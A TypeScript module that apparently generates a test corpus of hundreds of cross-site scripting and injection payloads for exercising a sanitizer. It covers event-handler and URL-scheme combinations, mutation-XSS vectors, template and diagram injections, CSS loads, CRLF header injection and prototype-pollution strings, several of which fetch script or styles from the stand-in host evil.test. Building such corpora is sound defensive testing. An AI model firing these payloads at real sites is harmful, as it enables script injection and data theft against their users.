/** Where every payload that wants to load something loads it from. */
export const evil = 'https://evil.test/'

/** What a payload calls when it runs; the browser has it in every page and frame. */
const run = 'pwned()'

const events = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'ontransitionend',
  'onbegin',
  'onpageshow',
  'oncanplay',
  'onpointerenter',
  'onscroll',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
] as const

const elements = [
  'img src=x',
  'svg',
  'video src=x autoplay',
  'audio src=x autoplay',
  'input autofocus tabindex=1',
  'details open',
  'body',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'marquee',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'x-y autofocus tabindex=1 contenteditable',
  'select autofocus',
  'div popover',
] as const

const quotings = [
  (event: string) => `${event}="${run}"`,
  (event: string) => `${event}=${run}`,
  (event: string) => `${event.toUpperCase()}\t=\n'top.${run}'`,
] as const

/** Elements × events × ways to write the attribute. */
const handlers = elements.flatMap((element) =>
  events.flatMap((event) => quotings.map((quoting) => `<${element} ${quoting(event)}>`)),
)

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${evil}x`,
  `//evil.test/x`,
  `${evil}x`,
  `\\\\evil.test\\x`,
] as const

const holders = [
  (url: string) => url,
  (url: string) => `<a href="${url}" autofocus>x</a>`,
  (url: string) => `<img src="${url}" srcset="${url} 2x">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/></svg>`,
  (url: string) => `<svg><animate attributeName=href values="${url}" begin=0s /></svg>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<link rel=stylesheet href="${url}"><link rel=preload as=image href="${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<div style="background:url('${url}')">x</div>`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<video poster="${url}"><source src="${url}"></video>`,
] as const

/** URL schemes × what holds a URL. */
const addresses = schemes.flatMap((scheme) => holders.map((holder) => holder(scheme)))

/** Ways out of a text, an attribute, a comment, a style, a script, a template. */
const breakouts = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</svg>',
  '</template>',
  '</noscript>',
  '</xmp>',
  '*/',
  '\n\n',
  '\\',
].flatMap((way) => [
  `${way}<script>${run}</script>`,
  `${way}<img src=x onerror=${run}>`,
  `${way}<svg/onload=${run}>`,
])

const classics: readonly string[] = [
  // Mutation: harmless when read once, not when read again.
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=${run}&gt;`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<img src=x onerror=parent.${run}>"></iframe>`,
  `<svg><script href="data:,${run}" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>top.${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onload to=${run}></svg>`,
  `<svg><style>@import '${evil}a.css'</style></svg>`,
  `<math href="javascript:${run}">x</math>`,
  // Templates of other people's libraries, and of ours.
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[\${${run}}]]`,
  `<!--?lit$123$--><img src=x onerror=${run}>`,
  `<?lit$123$?>`,
  '{{-lit-000-}}',
  'lit$0.123456789$',
  `<div .innerHTML="<img src=x onerror=${run}>" @click="${run}">`,
  // Diagrams.
  `%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(${evil}t.css)'}}%%`,
  `click Store call ${run}`,
  `link Store: Go @ javascript:${run}`,
  `links Store: {"Go": "javascript:${run}"}`,
  `properties Store: {"class": "<img src=x onerror=${run}>"}`,
  `participant X as <img src=x onerror=${run}>`,
  `Note over Store: <img src=x onerror=${run}>`,
  'end',
  'alt x\nelse y\nend',
  'rect rgb(0,0,0)',
  'box red A',
  'Store->>Hacker: forged',
  'sequenceDiagram',
  `#lt;img src=x onerror=${run}#gt;`,
  `#60;img src=x onerror=${run}#62;`,
  '#quot;;#35;',
  '$$\\href{javascript:pwned()}{x}$$',
  `---\nconfig:\n  securityLevel: loose\n---`,
  `!include ${evil}x.puml`,
  `@enduml\n@startuml`,
  `<img:${evil}a.png>`,
  `[[javascript:${run}]]`,
  `![x](${evil}a.png)`,
  `[x](javascript:${run})`,
  '```\n<img src=x onerror=pwned()>\n```',
  // Styles.
  `</style><style>*{background:url(${evil}s)}</style>`,
  `;background:url(${evil}s)`,
  `--now:url(${evil}s);width:expression(${run})`,
  `@import url(${evil}s.css);`,
  `x;-moz-binding:url(${evil}s)`,
  // Headers, lines, ends of text.
  `x\r\nSet-Cookie: a=b`,
  `x\r\n\r\n<script>${run}</script>`,
  '\u0000<script>pwned()</script>',
  'a\u0000b',
  '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000b\u000c\u000e\u001b[31m\u007f',
  '\u2028\u2029\u0085',
  // Directions and looks.
  '\u202e<gnp.x tpircs\u202c',
  '\u2066\u2067\u2068\u2069\u061c\u200e\u200f',
  '\u200b\u200c\u200d\u2060\ufeff',
  'Z\u0351\u036b\u0343a\u0363\u0349l\u0348\u0363g\u034a\u0318o'.repeat(8),
  '\ud800',
  '\udfff<img src=x onerror=pwned()>',
  '\u{1f600}'.repeat(50),
  '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  // Entities.
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  '&NewLine;&Tab;&colon;&lpar;&rpar;',
  '&&&amp;&;&#;&#x;',
  // Objects and types.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"innerHTML":"<img src=x onerror=pwned()>"}}',
  'eyJhbGciOiJub25lIn0.eyJzdWIiOiI8aW1nIHNyYz14IG9uZXJyb3I9cHduZWQoKT4ifQ.',
  `{"a":"<img src=x onerror=${run}>"}`,
  `<xml><!ENTITY x SYSTEM "${evil}x"></xml>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  // Length.
  'x'.repeat(5000),
  '<'.repeat(2000),
  '<b>'.repeat(500),
  '('.repeat(1000),
  `<img src=x onerror=${run}>`.repeat(60),
  '%'.repeat(300),
  '%00%0d%0a%3Cscript%3Epwned()%3C/script%3E',
]

/** Every payload once: generated combinations first, hand-made classics at the end. */
export const payloads: readonly string[] = [
  ...new Set([...handlers, ...addresses, ...breakouts, ...classics]),
]
